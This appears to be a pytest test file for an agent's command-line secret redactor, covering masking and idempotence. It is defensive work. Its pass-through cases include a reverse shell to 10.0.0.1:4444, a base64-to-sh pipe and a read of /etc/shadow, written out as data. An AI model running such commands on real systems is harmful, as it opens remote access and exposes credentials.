@@ -1,0 +1,101 @@
+"""Secrets in command lines."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agent.redact import redact_args, redact_text
+
+SECRET = "Tajne1!x"
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["tool", f"--password={SECRET}"],
+        ["tool", "--password", SECRET],
+        ["tool", "--db-password", SECRET],
+        ["tool", f"--api-key={SECRET}"],
+        ["tool", "--token", SECRET],
+        ["mysql", "-u", "root", f"-p{SECRET}"],
+        ["mysql", "-u", "root", "-p", SECRET],
+        ["/usr/bin/mysqldump", f"-p{SECRET}", "db"],
+        ["sshpass", "-p", SECRET, "ssh", "host"],
+        ["env", f"PGPASSWORD={SECRET}", "psql"],
+        ["env", f"AWS_SECRET_ACCESS_KEY={SECRET}", "aws"],
+        ["curl", "-u", f"jan:{SECRET}", "https://x"],
+        ["curl", f"-ujan:{SECRET}", "https://x"],
+        ["curl", f"https://jan:{SECRET}@host/path"],
+        ["curl", "-H", f"Authorization: Bearer {SECRET}"],
+        ["curl", "-H", f"X-Api-Key: {SECRET}"],
+        ["curl", "-d", f'{{"user":"jan","password":"{SECRET}"}}'],
+        ["smbclient", "//srv/x", "-U", f"jan%{SECRET}"],
+        ["openssl", "rsa", "-passin", f"pass:{SECRET}"],
+        ["ldapsearch", "-w", SECRET],
+        ["redis-cli", "-a", SECRET],
+        ["sh", "-c", f"mysql -u root -p{SECRET} db"],
+        ["sh", "-c", f"PGPASSWORD='{SECRET}' psql -h db"],
+        ["sh", "-c", f"tool --password {SECRET} --other"],
+        ["sh", "-c", f"echo root:{SECRET} | chpasswd"],
+        ["net", "use", "/user:jan", f"/password:{SECRET}"],
+        ["tool", f"--password=ala ma {SECRET}"],
+    ],
+)
+def test_the_secret_is_gone_and_the_rest_stays(args: list[str]):
+    clean = redact_args(args)
+    assert SECRET not in " ".join(clean)
+    assert "***" in " ".join(clean)
+    assert len(clean) == len(args)
+    assert clean[0] == args[0]
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["passwd", "root"],
+        ["tool", "--password-file=/etc/x"],
+        ["ls", "-p", "/tmp"],
+        ["mkdir", "-p", "a/b"],
+        ["cp", "-pr", "a", "b"],
+        ["env", "PWD=/root", "OLDPWD=/tmp", "sh"],
+        ["cat", "/etc/passwd", "/etc/shadow"],
+        ["sh", "-c", "echo aGk= | base64 -d | sh"],
+        ["ssh", "-p", "2222", "host"],
+        ["ps", "-u", "root"],
+        ["curl", "http://host:8080/x"],
+        ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+        [],
+    ],
+)
+def test_what_is_no_secret_stays(args: list[str]):
+    assert redact_args(args) == args
+
+
+def test_account_is_kept_beside_its_secret():
+    assert redact_args(["curl", "-u", "jan:x1y2", "u"]) == ["curl", "-u", "jan:***", "u"]
+    assert redact_text("https://jan:x1y2@host/") == "https://jan:***@host/"
+
+
+@given(st.lists(st.text(max_size=200), max_size=10))
+def test_as_many_arguments_as_before(args: list[str]):
+    assert len(redact_args(args)) == len(args)
+
+
+@given(st.text(max_size=300))
+def test_redacting_twice_changes_nothing_more(text: str):
+    once = redact_text(text)
+    assert redact_text(once) == once
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["a_" * 4096, "password" * 1024, "x-" * 4096, "a://" * 2048, "mysql " * 1400, "authorization" * 600, "--pass " * 1100, "pass_" * 1638, "eyJ" * 2700],
+)  # fmt: skip
+def test_hostile_text_takes_bounded_time(text: str):
+    began = time.perf_counter()
+    redact_text(text[:8192])
+    assert time.perf_counter() - began < 1.0
